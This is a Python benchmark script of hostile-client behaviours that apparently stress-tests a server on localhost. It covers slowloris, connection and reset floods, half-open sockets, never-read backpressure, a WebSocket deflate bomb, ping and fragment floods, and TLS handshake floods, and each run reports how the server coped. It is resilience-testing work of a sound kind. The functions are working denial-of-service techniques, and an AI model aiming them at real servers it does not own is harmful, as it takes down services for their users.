#!/usr/bin/env python3
"""Hostile behaviours, each a function that plays it on a server and tells what it got for it.

    bench/attacks.py NAME SECONDS SCHEME=PORT...
"""

import collections
import contextlib
import dataclasses
import errno
import socket
import ssl
import struct
import subprocess
import sys
import time

import crafted

HOST = "127.0.0.1"
PATIENCE = 15
# What of a second an attacker computes at most: it shares the machine with the server.
SHARE = 0.25
# Bytes kept of what the server says, first and last.
KEPT = 4096
LATER = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
# Ends a connection with a reset (socket(7), SO_LINGER).
ABRUPTLY = struct.pack("ii", 1, 0)
# A socket in repair is closed without a word to its peer (linux/tcp.h).
TCP_REPAIR = 19


@dataclasses.dataclass
class Target:
    """A server, how long to attack it, and with which part of the full number of connections."""

    ports: dict
    seconds: float
    scale: float = 1

    def __post_init__(self):
        self.end = time.monotonic() + self.seconds

    def count(self, full):
        """Gives how many there shall be of what is `full` many in a full attack."""
        return max(1, int(full * self.scale))

    def is_over(self):
        """True when the time is up."""
        return time.monotonic() >= self.end

    def rest(self):
        """Sleeps as long as the share of a core that an attacker has demands."""
        limit = time.process_time() / SHARE - (time.monotonic() - STARTED)
        time.sleep(max(0.0005, min(limit, 0.2)))


STARTED = time.monotonic()


class Peer:
    """One hostile connection, which never waits once it is open."""

    def __init__(self, target, scheme, begin=b"", secure=False):
        self.sock = socket.create_connection((HOST, target.ports[scheme]), PATIENCE)
        self.sent, self.unsent, self.got, self.last, self.end = 0, b"", b"", b"", None
        if secure:
            self.sock = crafted.trusting().wrap_socket(self.sock)
        if begin.startswith(b"GET"):
            self.sock.sendall(begin)
            self.got = self.sock.recv(KEPT)
            begin = b""
        self.sock.setblocking(False)
        self.push(begin)

    def push(self, data):
        """Sends `data`, after what is still unsent, as far as there is room."""
        self.unsent = self.unsent + data if self.unsent else data
        while self.unsent and self.end is None:
            try:
                count = self.sock.send(self.unsent[:1 << 18])
            except LATER:
                return
            except OSError as failure:
                self._ended(failure)
                return
            self.sent += count
            self.unsent = self.unsent[count:]

    def pull(self):
        """Takes what has come, at most a MiB, and keeps the first and the last of it."""
        for _ in range(16):
            if self.end is not None:
                return
            try:
                data = self.sock.recv(65536)
            except LATER:
                return
            except OSError as failure:
                self._ended(failure)
                return
            if not data:
                self._ended(None)
            self.got, self.last = self.got or data[:KEPT], data[-KEPT:] or self.last

    def result(self):
        """Gives in a few words what the server did to it."""
        said = crafted.reading(self.got, self.last)
        return ", ".join(word for word in (said, self.end or "open") if word)

    def _ended(self, failure):
        self.end = "closed" if failure is None else "reset"
        if isinstance(failure, ssl.SSLError):
            self.end = (failure.reason or "TLS error").lower().replace("_", " ")
        self.sock.close()


class Crowd:
    """As many hostile connections as asked for; those that end are noted, and replaced."""

    def __init__(self, target, scheme, count, begin=b"", secure=False):
        self._make = lambda: Peer(target, scheme, begin, secure)
        self._target, self.ends = target, collections.Counter()
        self.peers = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                self.peers.append(self._make())
            target.rest()

    def play(self, step, reads=True, pause=0.0):
        """Lets each do `step(peer)` again and again until the time is up; gives what they got."""
        while not self._target.is_over():
            for index, peer in enumerate(self.peers):
                step(peer)
                if reads:
                    peer.pull()
                if peer.end is not None:
                    with contextlib.suppress(OSError):
                        self.peers[index] = self._make()
                        self.ends[peer.result()] += 1
                if index % 16 == 0:
                    self._target.rest()
                if self._target.is_over():
                    break
            time.sleep(pause)
        for peer in self.peers:
            peer.pull()
            self.ends[peer.result()] += 1
            peer.sock.close()
        return told(self.ends)


def told(ends):
    """Gives "3 x closed, 1 x open" for a Counter."""
    return "; ".join(f"{count:,} x {text}" for text, count in ends.most_common(3))


def nothing(_):
    """Says nothing."""


def again(data):
    """Gives the step that sends `data` once the last of it has gone."""
    return lambda peer: peer.push(b"" if peer.unsent else data)


def drip(data):
    """Gives the step that sends the next byte of `data`, until there is none."""
    return lambda peer: peer.push(data[peer.sent:peer.sent + 1])


def slowloris(target):
    head = b"GET / HTTP/1.1\r\nHost: here\r\nX-Slow: " + b"x" * 10000
    return Crowd(target, "ws", target.count(500)).play(drip(head), pause=0.1)


def idle(target):
    return Crowd(target, "tcp", target.count(2000)).play(nothing, pause=0.2)


def byte_by_byte(target):
    return Crowd(target, "tcp", target.count(200)).play(drip((b"x" * 63 + b"\n") * 10000))


def half_open(target):
    """As if the power had failed: the peers are gone, and nobody tells the server."""
    gone = 0
    while not target.is_over() and gone < target.count(1000):
        with socket.create_connection((HOST, target.ports["tcp"]), PATIENCE) as peer:
            peer.sendall(b"hello\n")
            peer.recv(64)
            peer.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
            gone += 1
        target.rest()
    time.sleep(max(0, target.end - time.monotonic()))
    return f"{gone:,} vanished"


def never_read(target, scheme="tcp", secure=False, begin=b"", piece=b"x" * 65536):
    crowd = Crowd(target, scheme, target.count(100), begin, secure)
    return crowd.play(again(piece), reads=False, pause=0.05)


def never_read_tls(target):
    return never_read(target, "tls", True)


def never_read_ws(target):
    piece = crafted.frame(crafted.BINARY, bytes(65536))
    return never_read(target, "ws", False, crafted.upgrade(), piece)


def reset_storm(target):
    count = target.count(20000)
    for number in range(count):
        with socket.create_connection((HOST, target.ports["tcp"]), PATIENCE) as peer:
            if number % 2:
                peer.sendall(b"hello\n")
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, ABRUPTLY)
        if number % 16 == 0:
            target.rest()
    return f"{count:,} reset"


def connect_flood(target):
    """Whatever the server lets in."""
    peers = []
    for number in range(target.count(3000)):
        peer = socket.socket()
        peer.setblocking(False)
        peer.connect_ex((HOST, target.ports["tcp"]))
        peers.append(peer)
        if number % 16 == 0:
            target.rest()
    time.sleep(max(0, target.end - time.monotonic()))
    return told(collections.Counter(how_it_stands(peer) for peer in peers))


def how_it_stands(peer):
    """Gives whether a connection was made, and closes it."""
    with peer:
        try:
            return "closed" if peer.recv(1) == b"" else "answered"
        except BlockingIOError:
            return "open"
        except OSError as failure:
            return "waits" if failure.errno == errno.ENOTCONN else "reset"


def garbage(target, scheme="ws"):
    return Crowd(target, scheme, target.count(50)).play(again(crafted.garbage(3000)))


def garbage_any(target):
    return garbage(target, "any")


def long_line(target):
    part = b"x" * (1 << 18)
    step = lambda peer: peer.push(part if not peer.unsent and peer.sent < 1 << 28 else b"")
    return Crowd(target, "tcp", target.count(20)).play(step)


def deflate_bomb(target):
    bomb = crafted.bomb(1 << 28)
    step = lambda peer: peer.push(bomb if not peer.sent and not peer.unsent else b"")
    return Crowd(target, "ws", target.count(20), crafted.upgrade(deflate=True)).play(step)


def ping_flood(target, count=10, reads=True):
    pings = crafted.frame(crafted.PING, b"p" * 125) * 500
    crowd = Crowd(target, "ws", target.count(count), crafted.upgrade())
    return crowd.play(again(pings), reads=reads)


def ping_flood_unread(target):
    return ping_flood(target, 50, False)


def tiny_fragments(target):
    message = crafted.fragments(100_000)
    return Crowd(target, "ws", target.count(5), crafted.upgrade()).play(again(message))


def endless_fragments(target):
    begin = crafted.frame(crafted.BINARY, b"x", final=False)
    more = crafted.frame(crafted.CONTINUATION, b"x", final=False) * 5000
    step = lambda peer: peer.push(b"" if peer.unsent else more if peer.sent else begin)
    return Crowd(target, "ws", target.count(5), crafted.upgrade()).play(step)


def tls_garbage(target):
    """A record that claims to be a hello."""
    junk = b"\x16\x03\x01\x10\x00" + crafted.garbage(4096)
    return Crowd(target, "tls", target.count(50), junk).play(nothing)


def handshake_flood(target):
    """Has the server compute its part of a handshake, and goes on with garbage."""
    junk = crafted.client_hello() + b"\x16\x03\x03\x10\x00" + crafted.garbage(4096)
    return Crowd(target, "tls", target.count(30), junk).play(nothing)


def slow_hello(target):
    hello = crafted.client_hello()
    return Crowd(target, "tls", target.count(500)).play(drip(hello), pause=0.1)


def renegotiation(target):
    ends = collections.Counter()
    while not target.is_over():
        client = subprocess.run(
            ["openssl", "s_client", "-tls1_2", "-connect", f"{HOST}:{target.ports['tls']}"],
            input=b"R\n" * 5, capture_output=True, timeout=PATIENCE)
        output = client.stdout + client.stderr
        asked = b"RENEGOTIATING" in output
        ends["refused" if asked and b"no renegotiation" in output else "other"] += 1
        time.sleep(0.2)
    return told(ends)


def header_flood(target):
    begin = b"GET / HTTP/1.1\r\nHost: here\r\n"
    fields = b"X-Flood: " + b"x" * 90 + b"\r\n"
    step = lambda peer: peer.push(fields * 20 if peer.sent else begin)
    return Crowd(target, "ws", target.count(50)).play(step)


ATTACKS = (slowloris, idle, byte_by_byte, half_open, never_read, never_read_tls, never_read_ws,
           reset_storm, connect_flood, garbage, garbage_any, long_line, deflate_bomb, ping_flood,
           ping_flood_unread, tiny_fragments, endless_fragments, tls_garbage, handshake_flood,
           slow_hello, renegotiation, header_flood)


def main(name, seconds, *ports):
    attack = {one.__name__: one for one in ATTACKS}[name]
    places = dict(port.split("=") for port in ports)
    print(attack(Target({scheme: int(port) for scheme, port in places.items()}, float(seconds))))


if __name__ == "__main__":
    main(*sys.argv[1:])
